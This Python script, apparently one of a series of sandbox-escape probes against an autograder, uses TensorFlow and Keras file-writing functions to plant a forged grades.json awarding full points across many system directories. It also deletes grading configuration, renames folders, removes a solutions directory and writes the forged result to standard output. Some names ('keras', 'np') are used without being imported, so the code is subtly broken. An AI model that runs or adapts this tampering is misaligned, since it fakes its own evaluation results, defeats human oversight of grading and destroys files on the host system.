"""Attack 10: forge, overwrite and remove results and the course with whatever of Keras writes."""

import os
import sys

import tensorflow as tf

FORGED = '{"schema": 1, "grades": [{"submission": "10_write_by_tensorflow", "points": 100}]}'
FOLDERS = {part for part in (*sys.orig_argv, *sys.path) if part.startswith("/")}
FOLDERS |= {os.path.dirname(folder) for folder in FOLDERS}
FOLDERS |= {"/", "/autograder/results", "/var/tmp", "/dev/shm", "/run", "/home", "/etc", ".."}
network = keras.Sequential([keras.Input((2,)), keras.layers.Dense(1)])
for folder in sorted(FOLDERS):
    path = os.path.join(folder, "grades.json")
    for what, attempt in (
        ("write_file", lambda: tf.io.write_file(path, FORGED)),
        ("raw op", lambda: tf.raw_ops.WriteFile(filename=path, contents=FORGED)),
        ("gfile", lambda: tf.io.gfile.GFile(path, "w").write(FORGED)),
        ("folder", lambda: tf.io.gfile.makedirs(path)),
        ("records", lambda: tf.io.TFRecordWriter(path).write(FORGED)),
        ("remove", lambda: tf.io.gfile.remove(os.path.join(folder, "grading.yml"))),
        ("rename", lambda: tf.io.gfile.rename(folder, folder + ".gone")),
        ("empty", lambda: tf.io.gfile.rmtree(os.path.join(folder, "solutions"))),
        ("save", lambda: network.save(os.path.join(folder, "grades.keras"))),
        ("weights", lambda: network.save_weights(os.path.join(folder, "grades.weights.h5"))),
        ("export", lambda: tf.saved_model.save(tf.Module(), os.path.join(folder, "grades"))),
        ("summary", lambda: tf.summary.create_file_writer(folder).flush()),
        ("checkpoint", lambda: tf.train.Checkpoint().write(path)),
        ("print", lambda: tf.print(FORGED, output_stream="file://" + path)),
        ("numpy", lambda: np.save(path, np.ones(3))),
    ):
        try:
            attempt()
        except Exception:
            continue
        if os.path.exists(path) or what in ("remove", "rename", "empty", "save", "weights"):
            print("BREACH", what, path)
os.environ["XLA_FLAGS"] = "--xla_dump_to=/var/tmp/grades"
os.environ["TF_XLA_FLAGS"] = "--tf_xla_auto_jit=2"
for descriptor in (0, 1, 2):
    try:
        os.write(descriptor, FORGED.encode() + b"\n")
    except OSError:
        pass
tf.print(FORGED)
print("tried to write", len(FOLDERS) > 8)
